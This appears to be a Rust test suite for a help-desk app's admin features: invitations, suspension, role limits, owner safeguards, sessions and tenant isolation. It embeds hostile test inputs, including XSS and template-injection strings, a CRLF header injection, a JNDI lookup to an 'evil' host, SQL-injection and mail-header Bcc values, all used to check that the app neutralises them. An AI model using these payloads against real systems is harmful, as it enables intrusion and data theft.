//! People, as admins invite, change and keep them out.

use std::sync::Arc;

use axum::http::StatusCode;
use doorward::flows::{Acted, PersonAct};
use doorward_core::authority::Denied;
use doorward_core::user::{Email, Role};
use tokio::sync::Barrier;

use crate::story;
use crate::world::{Browser, PASSWORD, Page, Person};

const NEW_PASSWORD: &str = "nine small kettles sing";

async fn invite(browser: &mut Browser, name: &str, email: &str, role: &str) -> Page {
    let list = if role == "end_user" { "end-users" } else { "team-members" };
    let fields = [("name", name), ("email", email), ("role", role)];
    browser.post(&format!("/admin/{list}/invite"), &fields).await
}

async fn act(browser: &mut Browser, on: &Person, act: &str, fields: &[(&str, &str)]) -> Page {
    browser.post_freshly(&format!("/admin/people/{}/{act}", on.id()), fields).await
}

fn done(page: &Page) -> &str {
    page.location().split_once("?done=").map_or("", |(_, done)| done)
}

story! {
    async fn an_invited_person_chooses_a_password_and_signs_in(w: World) {
        let mut owner = w.owner("Ingrid").await.sign_in().await;
        let page = invite(&mut owner, "Nia Obi", "nia@example.com", "agent").await;
        assert_eq!(page.location(), "/admin/team-members?done=invited", "{page:?}");
        let mail = w.mail_to("nia@example.com").await.pop().expect("a mail");
        assert!(mail.text.contains("Ingrid") && mail.text.contains("https://help.example.com/link/"), "{}", mail.text);
        let link = w.link_to("nia@example.com").await;

        let mut nia = w.browser();
        assert_ne!(nia.sign_in("nia@example.com", NEW_PASSWORD).await.location(), "/desk", "not yet");
        for _ in 0..3 {
            // A mail scanner follows links, and nothing is used.
            assert_eq!(w.browser().get(&link).await.location(), "/welcome");
        }
        assert_eq!(nia.get(&link).await.location(), "/welcome");
        let page = nia.get("/welcome").await;
        assert!(page.says("Ingrid invited you") && page.says("nia@example.com"), "{page:?}");
        let page = nia.post("/welcome", &[("name", "Nia Obi"), ("new_password", NEW_PASSWORD)]).await;
        assert_eq!(page.location(), "/signin?done=welcome", "{page:?}");
        assert_eq!(nia.sign_in("nia@example.com", NEW_PASSWORD).await.location(), "/desk");

        let mut second = w.browser();
        assert_eq!(second.get(&link).await.status, StatusCode::GONE, "a link is used once");
    }
}

story! {
    async fn an_invitation_is_accepted_once_even_by_two_at_once(w: World) {
        let mut owner = w.owner("Ingrid").await.sign_in().await;
        invite(&mut owner, "Nia", "nia@example.com", "agent").await;
        let link = w.link_to("nia@example.com").await;
        let (mut one, mut two) = (w.browser(), w.browser());
        for browser in [&mut one, &mut two] {
            browser.get(&link).await;
            browser.get("/welcome").await;
        }
        let first = [("name", "Nia"), ("new_password", NEW_PASSWORD)];
        let second = [("name", "Nia"), ("new_password", "another nine kettles")];
        let (a, b) = tokio::join!(one.post_once("/welcome", &first), two.post_once("/welcome", &second));
        let yes = [&a, &b].into_iter().filter(|page| done(page) == "welcome").count();
        let no = [&a, &b].into_iter().filter(|page| page.status == StatusCode::GONE).count();
        assert_eq!((yes, no), (1, 1), "{a:?} {b:?}");
        assert_eq!(w.count("SELECT count(*) FROM events WHERE kind = 'invitation_accepted'").await, 1);
    }
}

story! {
    async fn an_invitation_works_seven_days(w: World) {
        let mut owner = w.owner("Ingrid").await.sign_in().await;
        invite(&mut owner, "Nia", "nia@example.com", "agent").await;
        let link = w.link_to("nia@example.com").await;
        let mut nia = w.browser();
        nia.get(&link).await;
        w.later("6 days");
        w.later("86399 seconds");
        assert_eq!(nia.get(&link).await.location(), "/welcome");
        nia.get("/welcome").await;
        w.later("1 second");
        assert_eq!(w.browser().get(&link).await.status, StatusCode::GONE);
        let page = nia.post("/welcome", &[("name", "Nia Obi"), ("new_password", NEW_PASSWORD)]).await;
        assert_eq!(page.status, StatusCode::GONE, "{page:?}");
        assert_eq!(w.count("SELECT count(*) FROM passwords").await, 1, "the owner's");
    }
}

story! {
    async fn a_second_invitation_kills_the_first_link(w: World) {
        let mut owner = w.owner("Ingrid").await.sign_in().await;
        invite(&mut owner, "Nia", "nia@example.com", "agent").await;
        let first = w.link_to("nia@example.com").await;
        let page = owner.get("/admin/team-members?q=nia").await;
        let at = page.body.find("/admin/people/").expect("Nia in the list");
        let person = page.body[at..].split('"').next().unwrap().to_owned();
        let page = owner.post(&format!("{person}/invite-again"), &[]).await;
        assert_eq!(done(&page), "invited", "{page:?}");
        let second = w.link_to("nia@example.com").await;
        assert_ne!(first, second);
        assert_eq!(w.browser().get(&first).await.status, StatusCode::GONE);
        assert_eq!(w.browser().get(&second).await.location(), "/welcome");
        let page = invite(&mut owner, "Nia", "NIA@example.com", "agent").await;
        assert_eq!(page.status, StatusCode::CONFLICT, "one address is one person: {page:?}");
    }
}

story! {
    async fn an_invitation_dies_with_the_invited_person_s_suspension_or_new_role(w: World) {
        let mut owner = w.owner("Ingrid").await.sign_in().await;
        for (name, change, fields) in
            [("Nia", "suspend", &[][..]), ("Bo", "role", &[("role", "admin")][..])]
        {
            let email = format!("{}@example.com", name.to_lowercase());
            invite(&mut owner, name, &email, "agent").await;
            let link = w.link_to(&email).await;
            let page = owner.get(&format!("/admin/team-members?q={name}")).await;
            let at = page.body.find("/admin/people/").unwrap();
            let person = page.body[at..].split('"').next().unwrap().to_owned();
            owner.post(&format!("{person}/{change}"), fields).await;
            assert_eq!(w.browser().get(&link).await.status, StatusCode::GONE, "{name}");
        }
    }
}

story! {
    async fn who_is_suspended_is_out_at_the_next_request_and_comes_back_when_restored(w: World) {
        let (ingrid, tom) = (w.owner("Ingrid").await, w.agent("Tom").await);
        let mut owner = ingrid.sign_in().await;
        let mut browser = tom.sign_in().await;
        let page = act(&mut owner, &tom, "suspend", &[]).await;
        assert_eq!(done(&page), "suspended", "{page:?}");
        assert!(!browser.is_signed_in().await);
        let page = browser.sign_in(tom.email(), PASSWORD).await;
        assert_eq!(page.status, StatusCode::UNAUTHORIZED, "{page:?}");
        assert_eq!(done(&act(&mut owner, &tom, "suspend", &[]).await), "changed-meanwhile");
        assert_eq!(done(&act(&mut owner, &tom, "restore", &[]).await), "restored");
        assert!(!browser.is_signed_in().await, "old sessions stay ended");
        assert_eq!(w.browser().sign_in(tom.email(), PASSWORD).await.location(), "/desk");
    }
}

story! {
    async fn who_is_suspended_in_the_middle_of_a_sign_in_gets_no_session(w: World) {
        let (ingrid, ana) = (w.owner("Ingrid").await, w.agent_with_totp("Ana").await);
        let mut owner = ingrid.sign_in().await;
        let mut browser = w.browser();
        browser.sign_in(ana.email(), ana.password()).await;
        assert_eq!(done(&act(&mut owner, &ana, "suspend", &[]).await), "suspended");
        browser.post("/signin/passcode", &[("passcode", &ana.passcode())]).await;
        assert!(!browser.is_signed_in().await);
    }
}

story! {
    async fn an_admin_ends_all_sessions_of_an_agent_or_one(w: World) {
        let (kwame, tom) = (w.admin("Kwame").await, w.agent("Tom").await);
        let (mut one, mut two) = (tom.sign_in().await, tom.sign_in().await);
        let mut admin = kwame.sign_in().await;
        let page = admin.get(&format!("/admin/people/{}", tom.id())).await;
        let session = page.field("session").expect("a session to end").to_owned();
        let page = act(&mut admin, &tom, "end-session", &[("session", &session)]).await;
        assert_eq!(done(&page), "session-ended", "{page:?}");
        let left = [one.is_signed_in().await, two.is_signed_in().await];
        assert_eq!(left.iter().filter(|it| **it).count(), 1);
        assert_eq!(done(&act(&mut admin, &tom, "end-sessions", &[]).await), "sessions-ended");
        assert!(!one.is_signed_in().await && !two.is_signed_in().await);
    }
}

/// What each role may do to each, written out: by the house rule and not by the code.
const REACH: [(Role, &[Role]); 3] = [
    (Role::Agent, &[]),
    (Role::Admin, &[Role::EndUser, Role::Agent]),
    (Role::Owner, &[Role::EndUser, Role::Agent, Role::Admin]),
];

story! {
    async fn p51_p53_no_role_changes_an_equal_or_a_higher_one_and_none_gives_more_than_its_own(w: World) {
        let mut nth = 0;
        for (role, reach) in REACH {
            let actor = w.person(&format!("Actor{role:?}"), role, true).await;
            let mut browser = actor.sign_in().await;
            for theirs in Role::ALL {
                nth += 1;
                let target = w.person(&format!("Target{nth}"), theirs, false).await;
                let what = format!("{role:?} on {theirs:?}");
                for (go, back) in [("suspend", "restore")] {
                    let page = act(&mut browser, &target, go, &[]).await;
                    assert_eq!(done(&page) == "suspended", reach.contains(&theirs), "{what}: {page:?}");
                    assert_eq!(page.status == StatusCode::FORBIDDEN, !reach.contains(&theirs), "{what}");
                    let page = act(&mut browser, &target, back, &[]).await;
                    assert_eq!(done(&page) == "restored", reach.contains(&theirs), "{what}: {page:?}");
                }
                let may_end = role >= Role::Admin && theirs <= role;
                let page = act(&mut browser, &target, "end-sessions", &[]).await;
                assert_eq!(done(&page) == "sessions-ended", may_end, "{what}: {page:?}");
                for given in Role::ALL.into_iter().filter(|given| *given != theirs) {
                    nth += 1;
                    let target = w.person(&format!("Target{nth}"), theirs, false).await;
                    let page = act(&mut browser, &target, "role", &[("role", given.key())]).await;
                    let may = reach.contains(&theirs) && given <= role;
                    assert_eq!(done(&page) == "role-changed", may, "{what} to {given:?}: {page:?}");
                    assert_eq!(page.status == StatusCode::FORBIDDEN, !may, "{what} to {given:?}: {page:?}");
                    let now = w.role_of(&target).await;
                    assert_eq!(now, if may { given } else { theirs }, "{what} to {given:?}");
                }
            }
        }
    }
}

story! {
    async fn p33_who_may_invite_whom(w: World) {
        let allowed = [
            (Role::Agent, &[][..]),
            (Role::Admin, &["end_user", "agent", "admin"][..]),
            (Role::Owner, &["end_user", "agent", "admin", "owner"][..]),
        ];
        let mut nth = 0;
        for (role, roles) in allowed {
            let mut browser = w.person(&format!("Inviter{role:?}"), role, true).await.sign_in().await;
            for invited in ["end_user", "agent", "admin", "owner"] {
                nth += 1;
                let page = invite(&mut browser, "New", &format!("new{nth}@example.com"), invited).await;
                let may = roles.contains(&invited);
                assert_eq!(done(&page) == "invited", may, "{role:?} invites {invited}: {page:?}");
                assert_eq!(page.status == StatusCode::FORBIDDEN, !may, "{role:?} invites {invited}: {page:?}");
            }
        }
        assert_eq!(w.count("SELECT count(*) FROM users WHERE standing = 'invited'").await, 7);
    }
}

story! {
    async fn p52_a_role_of_the_other_list_cannot_be_slipped_in(w: World) {
        let mut owner = w.owner("Ingrid").await.sign_in().await;
        for (list, role) in [("team-members", "end_user"), ("end-users", "owner"), ("end-users", "agent"), ("team-members", "root"), ("team-members", "")] {
            let fields = [("name", "Eve"), ("email", "eve@example.com"), ("role", role)];
            let page = owner.post(&format!("/admin/{list}/invite"), &fields).await;
            assert_eq!(page.status, StatusCode::UNPROCESSABLE_ENTITY, "{role} in {list}: {page:?}");
        }
        let forged = [
            ("name", "Eve"),
            ("email", "eve@example.com"),
            ("role", "agent"),
            ("standing", "active"),
            ("tenant_id", "1"),
            ("password", NEW_PASSWORD),
            ("verified", "true"),
        ];
        assert_eq!(done(&owner.post("/admin/team-members/invite", &forged).await), "invited");
        assert_eq!(w.browser().sign_in("eve@example.com", NEW_PASSWORD).await.status, StatusCode::UNAUTHORIZED);
    }
}

story! {
    async fn p53_nobody_changes_themselves(w: World) {
        w.owner("Olga").await;
        for person in [w.owner("Ingrid").await, w.admin("Kwame").await] {
            let mut browser = person.sign_in().await;
            for (what, fields) in [
                ("suspend", &[][..]),
                ("end-sessions", &[][..]),
                ("role", &[("role", "agent")][..]),
                ("role", &[("role", "owner")][..]),
            ] {
                let page = act(&mut browser, &person, what, fields).await;
                assert_eq!(page.status, StatusCode::FORBIDDEN, "{what}: {page:?}");
            }
            let page = browser.get(&format!("/admin/people/{}", person.id())).await;
            assert!(!page.body.contains("/suspend") && !page.body.contains("/role\""), "nothing is offered");
            assert!(browser.is_signed_in().await);
        }
        assert_eq!(w.count("SELECT count(*) FROM events WHERE kind = 'denied'").await, 8);
    }
}

story! {
    async fn an_admin_gives_a_second_factor_again_before_people_are_changed(w: World) {
        let (kwame, tom) = (w.admin("Kwame").await, w.agent("Tom").await);
        let mut admin = kwame.sign_in().await;
        w.later("11 minutes");
        for (path, fields) in [
            (format!("/admin/people/{}/suspend", tom.id()), &[][..]),
            (format!("/admin/people/{}/role", tom.id()), &[("role", "admin")][..]),
            (format!("/admin/people/{}/end-sessions", tom.id()), &[][..]),
            (format!("/admin/people/{}/end-session", tom.id()), &[("session", "x")][..]),
            (
                "/admin/team-members/invite".to_owned(),
                &[("name", "Eve"), ("email", "eve@example.com"), ("role", "agent")][..],
            ),
            ("/admin/mail/retry".to_owned(), &[("mail", "x")][..]),
        ] {
            let page = admin.post(&path, fields).await;
            assert!(page.location().starts_with("/confirm?for=people&then="), "{path}: {page:?}");
        }
        let bare = w.person("Bare", Role::Admin, false).await;
        let page = act(&mut bare.sign_in().await, &tom, "suspend", &[]).await;
        assert_eq!(page.location(), "/security?done=second-factor-first", "{page:?}");
        assert_eq!(w.count("SELECT count(*) FROM users WHERE standing <> 'active'").await, 0);
    }
}

story! {
    async fn a_demoted_admin_is_one_no_more_at_the_next_request(w: World) {
        let (ingrid, kwame) = (w.owner("Ingrid").await, w.admin("Kwame").await);
        let mut admin = kwame.sign_in().await;
        let mut owner = ingrid.sign_in().await;
        assert_eq!(admin.get("/admin").await.status, StatusCode::OK);
        assert_eq!(done(&act(&mut owner, &kwame, "role", &[("role", "agent")]).await), "role-changed");
        let page = admin.get("/admin").await;
        assert!(page.status == StatusCode::FORBIDDEN || page.location().starts_with("/signin?"), "{page:?}");
    }
}

story! {
    async fn p53_an_account_keeps_its_last_owner(w: World) {
        let ingrid = w.owner("Ingrid").await;
        let email = Email::parse(ingrid.email()).unwrap();
        for act in [PersonAct::Suspend, PersonAct::ChangeRole(Role::Admin)] {
            let acted = w.app().act_as_operator(w.tenant.clone(), &email, act).await.unwrap();
            assert_eq!(acted, Acted::Denied(Denied::LastOwner));
        }
        let invited = w.owner("Olga").await;
        w.tamper("UPDATE users SET standing = 'invited' WHERE email = 'olga@example.com'").await;
        let acted = w.app().act_as_operator(w.tenant.clone(), &email, PersonAct::Suspend).await.unwrap();
        assert_eq!(acted, Acted::Denied(Denied::LastOwner), "an owner who never came is none: {}", invited.email());
    }
}

const ACTIVE_OWNERS: &str = "SELECT count(*) FROM users u JOIN roles r ON r.tenant_id = u.tenant_id
    AND r.user_id = u.id AND r.valid_to IS NULL WHERE r.role = 'owner' AND u.standing = 'active'";

story! {
    async fn p53_of_the_last_two_owners_one_remains_however_fast_both_go(w: World) {
        let (ingrid, olga) = (w.owner("Ingrid").await, w.owner("Olga").await);
        let emails = [ingrid.email(), olga.email()].map(|email| Email::parse(email).unwrap());
        for round in 0..50 {
            let barrier = Arc::new(Barrier::new(2));
            let acts = match round % 3 {
                0 => [PersonAct::Suspend, PersonAct::Suspend],
                1 => [PersonAct::ChangeRole(Role::Admin), PersonAct::ChangeRole(Role::EndUser)],
                _ => [PersonAct::Suspend, PersonAct::ChangeRole(Role::Agent)],
            };
            let both = [0, 1].map(|i| {
                let (app, tenant, barrier) = (w.app(), w.tenant.clone(), Arc::clone(&barrier));
                let (email, act) = (emails[i].clone(), acts[i]);
                tokio::spawn(async move {
                    barrier.wait().await;
                    app.act_as_operator(tenant, &email, act).await.unwrap()
                })
            });
            let mut came_to = Vec::new();
            for one in both {
                came_to.push(one.await.unwrap());
            }
            assert_eq!(w.count(ACTIVE_OWNERS).await, 1, "round {round}: {came_to:?}");
            let denied = came_to.iter().filter(|it| **it == Acted::Denied(Denied::LastOwner)).count();
            assert_eq!(denied, 1, "round {round}: {came_to:?}");
            for email in &emails {
                for back in [PersonAct::Restore, PersonAct::ChangeRole(Role::Owner)] {
                    w.app().act_as_operator(w.tenant.clone(), email, back).await.unwrap();
                }
            }
            assert_eq!(w.count(ACTIVE_OWNERS).await, 2, "round {round}");
        }
    }
}

story! {
    async fn p53_two_owners_who_demote_each_other_leave_one(w: World) {
        let (ingrid, olga) = (w.owner("Ingrid").await, w.owner("Olga").await);
        let (mut one, mut two) = (ingrid.sign_in().await, olga.sign_in().await);
        let fields = [("role", "agent")];
        let (a, b) = tokio::join!(act(&mut one, &olga, "role", &fields), act(&mut two, &ingrid, "role", &fields));
        // Nobody changes an equal: owners are demoted at the server's console alone.
        assert_eq!((a.status, b.status), (StatusCode::FORBIDDEN, StatusCode::FORBIDDEN));
        assert_eq!(w.count(ACTIVE_OWNERS).await, 2);
    }
}

story! {
    async fn a_list_is_searched_by_how_names_and_addresses_begin_and_turned_by_pages(w: World) {
        let mut owner = w.owner("Ingrid").await.sign_in().await;
        for i in 0..120 {
            w.customer(&format!("Guest{i:03}")).await;
        }
        w.customer("Zoe").await;
        let mut seen = Vec::new();
        let mut url = "/admin/end-users".to_owned();
        for pages in 1.. {
            let page = owner.get(&url).await;
            assert_eq!(page.status, StatusCode::OK, "{page:?}");
            let names: Vec<String> = page.body.split("href=\"/admin/people/").skip(1).map(name_in).collect();
            assert!(names.len() <= 50);
            seen.extend(names);
            match next_page(&page) {
                Some(next) => url = format!("/admin/end-users{next}"),
                None => {
                    assert_eq!(pages, 3);
                    break;
                }
            }
        }
        let guests: Vec<String> = (0..120).map(|i| format!("Guest{i:03}")).chain(["Zoe".to_owned()]).collect();
        assert_eq!(seen, guests);

        let names = async |owner: &mut Browser, q: &str| -> usize {
            let page = owner.get(&format!("/admin/end-users?q={q}")).await;
            assert_eq!(page.status, StatusCode::OK, "{page:?}");
            page.body.matches("href=\"/admin/people/").count()
        };
        assert_eq!(names(&mut owner, "zO").await, 1);
        assert_eq!(names(&mut owner, "zoe%40example.com").await, 1);
        assert_eq!(names(&mut owner, "guest00").await, 10);
        assert_eq!(names(&mut owner, "oe").await, 0, "the beginning counts");
        for wild in ["%25", "_", "%27", "%27%20OR%20%27%27%3D%27", "%5C", "zoe%25", "Z*"] {
            assert_eq!(names(&mut owner, wild).await, 0, "{wild}");
        }
        for cursor in ["x", "AAAA", "%00", "////", "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"] {
            let page = owner.get(&format!("/admin/end-users?after={cursor}")).await;
            assert!(page.status == StatusCode::OK || page.status == StatusCode::BAD_REQUEST, "{cursor}: {page:?}");
        }
        assert_eq!(names(&mut owner, "ingrid").await, 0, "team members are in the other list");
    }
}

fn name_in(row: &str) -> String {
    let name = row.split("<bdi>").nth(1).unwrap_or_default();
    name.split("</bdi>").next().unwrap_or_default().to_owned()
}

fn next_page(page: &Page) -> Option<String> {
    let end = page.body.find("rel=\"next\"")?;
    let start = page.body[..end].rfind("href=\"")? + 6;
    Some(page.body[start..].split('"').next()?.replace("&#38;", "&").replace("&amp;", "&"))
}

story! {
    async fn p54_people_of_another_account_are_not_here(w: World) {
        let other = w.other_account("https://desk.example.net").await;
        let (ingrid, stranger) = (w.owner("Ingrid").await, other.agent("Stranger").await);
        let mut there = stranger.sign_in().await;
        let session = w.rows::<Vec<u8>>("SELECT id FROM sessions").await;
        assert_eq!(session.len(), 1);
        let mut owner = ingrid.sign_in().await;
        let id = stranger.id();
        for path in [format!("/admin/people/{id}"), format!("/admin/people/{id}/suspend"), format!("/admin/people/{id}/role")] {
            let page = owner.get(&path).await;
            assert_eq!(page.status, StatusCode::NOT_FOUND, "{path}: {page:?}");
        }
        for (what, fields) in [
            ("suspend", &[][..]),
            ("restore", &[][..]),
            ("role", &[("role", "end_user")][..]),
            ("end-sessions", &[][..]),
            ("invite-again", &[][..]),
            ("end-session", &[("session", "x")][..]),
        ] {
            let page = act(&mut owner, &stranger, what, fields).await;
            assert_eq!(page.status, StatusCode::NOT_FOUND, "{what}: {page:?}");
        }
        assert!(!owner.get("/admin/team-members").await.says("Stranger"));
        assert!(!owner.get("/admin/team-members?q=stranger").await.says("stranger@"));
        assert!(there.is_signed_in().await);
        // The same address is another person in another account.
        let page = invite(&mut owner, "Stranger", stranger.email(), "agent").await;
        assert_eq!(done(&page), "invited", "{page:?}");
    }
}

story! {
    async fn p54_a_session_of_somebody_else_is_not_ended_by_its_id(w: World) {
        let (kwame, tom, ana) =
            (w.admin("Kwame").await, w.agent("Tom").await, w.agent("Ana").await);
        let mut tom_browser = tom.sign_in().await;
        let mut admin = kwame.sign_in().await;
        let page = admin.get(&format!("/admin/people/{}", tom.id())).await;
        let session = page.field("session").expect("Tom's session").to_owned();
        let page = act(&mut admin, &ana, "end-session", &[("session", &session)]).await;
        assert_eq!(page.status, StatusCode::NOT_FOUND, "not of that person: {page:?}");
        let page = ana.sign_in().await.post("/security/sessions/end", &[("session", &session)]).await;
        assert_eq!(page.status, StatusCode::NOT_FOUND, "{page:?}");
        let other = w.other_account("https://desk.example.net").await;
        let mut elsewhere = other.owner("Olga").await.sign_in().await;
        let page = elsewhere.post("/security/sessions/end", &[("session", &session)]).await;
        assert_eq!(page.status, StatusCode::NOT_FOUND, "{page:?}");
        assert!(tom_browser.is_signed_in().await);
    }
}

const NASTY: [&str; 6] = [
    "<script>alert(1337)</script>",
    "\"><img src=x onerror=alert(1337)>",
    "'-alert(1337)-'</title><svg/onload=alert(1337)>",
    "{{1337*7331}} ${1337*7331} <%= 1337*7331 %> {% raw %}",
    "%0d%0aSet-Cookie:%20evil=1 ${jndi:ldap://evil}",
    "\u{202e}evil\u{2066}",
];

fn is_tame(page: &Page, what: &str) {
    assert!(!page.status.is_server_error(), "{what}: {page:?}");
    for wild in ["<script>alert", "<img src=x", "<svg/onload", "\"><", "9801547", "'-alert(1337)-'<"] {
        // Tags of our own close with a quote and an angle bracket, too: what follows decides.
        let found = page
            .body
            .match_indices(wild)
            .any(|(at, _)| wild != "\"><" || page.body[at + 2..].starts_with("<img src=x"));
        assert!(!found, "{what} shows {wild}");
    }
    assert!(page.headers.get("evil").is_none());
    assert!(page.headers.get_all("set-cookie").iter().all(|it| !it.to_str().unwrap_or("").contains("evil")));
}

story! {
    async fn p50_what_people_call_themselves_and_their_browsers_stays_text(w: World) {
        let ingrid = w.owner("Ingrid").await;
        let mut owner = ingrid.sign_in().await;
        for (i, nasty) in NASTY.into_iter().enumerate() {
            let email = format!("nasty{i}@example.com");
            let page = invite(&mut owner, nasty, &email, "admin").await;
            assert_eq!(done(&page), "invited", "{nasty}: {page:?}");
            let mail = w.mail_to(&email).await.pop().expect("a mail");
            assert!(!mail.subject.contains(['\r', '\n']) && !mail.from_name.contains(['\r', '\n']));
            assert!(mail.text.contains(nasty), "a mail is plain text: {}", mail.text);
            assert!(!mail.text.contains("9801547"), "{}", mail.text);
            let link = w.link_to(&email).await;

            let mut browser = w.browser();
            browser.headers = vec![("user-agent".to_owned(), nasty.to_owned())];
            browser.get(&link).await;
            is_tame(&browser.get("/welcome").await, "/welcome");
            is_tame(&browser.post("/welcome", &[("name", nasty), ("new_password", "short")]).await, "/welcome");
            let page = browser.post("/welcome", &[("name", nasty), ("new_password", NEW_PASSWORD)]).await;
            assert_eq!(done(&page), "welcome", "{page:?}");
            assert_eq!(browser.sign_in(&email, NEW_PASSWORD).await.location(), "/desk");
            for path in ["/desk", "/security", "/admin", "/admin/team-members", "/admin/mail"] {
                let page = browser.get(path).await;
                assert_eq!(page.status, StatusCode::OK, "{path}: {page:?}");
                is_tame(&page, path);
            }
            let id = w.id_of(&email).await;
            for path in [format!("/admin/people/{id}"), format!("/admin/people/{id}/role")] {
                let page = owner.get(&path).await;
                assert_eq!(page.status, StatusCode::OK, "{path}: {page:?}");
                is_tame(&page, &path);
            }
            // What is typed comes back encoded as well.
            let q: String = form_urlencoded::byte_serialize(nasty.as_bytes()).collect();
            is_tame(&owner.get(&format!("/admin/team-members?q={q}")).await, "a search");
            is_tame(&w.browser().get(&format!("/signin?then={q}&done={q}&because={q}")).await, "a query");
            is_tame(&w.browser().sign_in(nasty, nasty).await, "a sign-in");
            is_tame(&w.browser().post("/forgot", &[("email", nasty)]).await, "forgot");
            is_tame(&invite(&mut owner, nasty, nasty, nasty).await, "an invitation");
            let ask = w.browser().post("/forgot", &[("email", &email)]).await;
            is_tame(&ask, "forgot");
            let mail = w.mail_to(&email).await.pop().expect("a mail");
            assert!(!mail.text.contains("9801547") && !mail.subject.contains('\n'), "{}", mail.text);
        }
        let browsers = w.rows::<String>("SELECT browser FROM sessions").await;
        assert!(browsers.iter().all(|it| it.chars().all(|letter| !letter.is_control())), "{browsers:?}");
    }
}

story! {
    async fn p40_a_name_or_address_carries_no_header_and_no_second_recipient(w: World) {
        let mut owner = w.owner("Ingrid").await.sign_in().await;
        for (name, email) in [
            ("Eve\r\nBcc: all@example.com", "eve@example.com"),
            ("Eve\n", "eve@example.com\r\nBcc: all@example.com"),
            ("Eve", "eve@example.com,all@example.com"),
            ("Eve", "eve@example.com all@example.com"),
            ("Eve", "Eve <eve@example.com>"),
            ("Eve", "eve@example.com;all@example.com"),
            ("Eve", "\"a b\"@example.com"),
            ("Eve\u{7}", "eve@example.com"),
            ("", "eve@example.com"),
        ] {
            let page = invite(&mut owner, name, email, "agent").await;
            assert_eq!(page.status, StatusCode::UNPROCESSABLE_ENTITY, "{name:?} {email:?}: {page:?}");
            let page = w.browser().post("/forgot", &[("email", email)]).await;
            assert!([200, 422].contains(&page.status.as_u16()), "{email:?}: {page:?}");
        }
        assert_eq!(w.browser().post("/forgot", &[("email", "a@b.example\0")]).await.status, StatusCode::BAD_REQUEST);
        assert_eq!(w.count("SELECT count(*) FROM outbox").await, 0);
        assert_eq!(w.count("SELECT count(*) FROM users").await, 1);
    }
}
